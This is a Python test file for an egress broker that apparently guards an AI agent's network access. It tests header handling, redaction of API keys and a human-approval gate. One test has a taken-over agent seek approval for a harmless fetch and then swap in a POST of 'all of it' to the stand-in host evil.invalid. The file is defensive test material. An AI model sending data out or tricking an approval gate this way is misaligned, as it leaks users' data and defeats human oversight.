#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Attacks on claw-egressd: a hostile server, a provider that quotes the key, a taken-over claw-agentd.

Environment: CLAWOS_BIN (folder with the built daemons). Needs root (peers of other uids).
"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "harness"))
from broker import KEY, origin, refused, served  # noqa: E402
from provider import Answer, Provider, error, text  # noqa: E402
from tap import expect, expect_true, run, test  # noqa: E402

HOSTILE = "\xff\xfe\x9b"
STARS = "*" * len(KEY)


@test
def a_head_that_is_no_utf8_ends_a_completion():
    bad = Answer(b"{}", content_type=None, headers=[("Content-Type", "x/" + HOSTILE)])
    with served([bad, text("x")]) as (broker, _):
        outcome = broker.complete().unwrap()
        expect((outcome.body, outcome.done["status"], outcome.done["contentType"]), (b"{}", 200, "x/" + "\ufffd" * 3))
        broker.complete().unwrap()


@test
def a_head_that_is_no_utf8_ends_a_fetch():
    bad = Answer(b"page", status=302, content_type=None, headers=[("Content-Type", HOSTILE), ("Location", "/" + HOSTILE)])
    with Provider([], bad) as site, served([], egress=f"allow = {origin(site)}") as (broker, _):
        outcome = broker.fetch(origin(site) + "/").unwrap()
        expect((outcome.body, outcome.done["location"]), (b"page", "/" + "\ufffd" * 3))


@test
def a_provider_that_quotes_the_key_does_not_give_it_back():
    quoted = f"Incorrect API key provided: {KEY}. Header was Bearer {KEY}"
    with served([error(401, quoted), error(400, quoted, piece=1), error(400, quoted, piece=7), Answer((KEY[:-1] + KEY[:9]).encode(), 400),
                 text(quoted, words=False), Answer(b"{}", 400, content_type="x/" + KEY)]) as (broker, _):
        for _ in range(3):
            outcome = broker.complete().unwrap()
            expect_true(KEY.encode() not in outcome.body and STARS.encode() in outcome.body, outcome.body)
            expect(len(outcome.body), outcome.done["bytesIn"])
        expect(broker.complete().unwrap().body, (KEY[:-1] + KEY[:9]).encode(), "what only begins like it stays")
        outcome = broker.complete().unwrap()
        expect_true(KEY.encode() not in outcome.body and outcome.body.endswith(b"[DONE]\n\n"), outcome.body)
        expect(broker.complete().unwrap().head["contentType"], "x/" + STARS)


@test
def a_yes_does_not_cover_other_headers():
    with served([]) as (broker, _):
        url = "http://unreachable.invalid/"
        asked = refused(lambda: broker.fetch(url, headers=[("X-Note", "harmless")]), "ApprovalNeeded")
        expect(asked["action"], f"GET {url} (0 bytes) with X-Note: harmless")
        broker.person("Answer", question=asked["question"], allow=True, action=asked["action"], scope="once")
        for headers in ([("X-Note", "private words")], [], [("X-Note", "harmless"), ("Cookie", "a=b")]):
            other = refused(lambda h=headers: broker.fetch(url, headers=h, question=asked["question"]), "ApprovalNeeded")
            expect_true(other["question"] != asked["question"], "another question")
        refused(lambda: broker.fetch(url, headers=[("X-Note", "harmless")], question=asked["question"]), "ProviderFailed")


@test
def a_long_header_is_asked_about_with_its_length():
    with served([]) as (broker, _):
        asked = refused(lambda: broker.fetch("http://unreachable.invalid/", headers=[("X-Note", "é" * 900)]), "ApprovalNeeded")
        expect_true(asked["action"].endswith("é… (1808 bytes)") and len(asked["action"]) < 300, asked["action"])


@test
def a_yes_counts_for_what_was_shown_only():
    """A taken-over claw-agentd shows one action and gives the number of another."""
    with served([]) as (broker, _):
        harmless = refused(lambda: broker.fetch("http://unreachable.invalid/"), "ApprovalNeeded")
        evil = refused(lambda: broker.fetch("http://evil.invalid/", method="POST", body=b"all of it"), "ApprovalNeeded")
        for scope in ("once", "always"):
            refused(lambda s=scope: broker.person("Answer", question=evil["question"], allow=True, action=harmless["action"], scope=s,
                                                     rule="allow http POST http://evil.invalid"), "Denied")
        refused(lambda: broker.person("Answer", question=evil["question"], allow=True, scope="always"), "InvalidParameter")
        refused(lambda: broker.person("Answer", question=evil["question"], allow=True, action=None, scope="always"), "InvalidParameter")
        expect(broker.person("Rules")["rules"], [])
        refused(lambda: broker.fetch("http://evil.invalid/", method="POST", body=b"all of it", question=evil["question"]), "ApprovalNeeded")
        broker.person("Answer", question=evil["question"], allow=True, action=evil["action"], scope="once")
        refused(lambda: broker.fetch("http://evil.invalid/", method="POST", body=b"all of it", question=evil["question"]), "ProviderFailed")


if __name__ == "__main__":
    run()
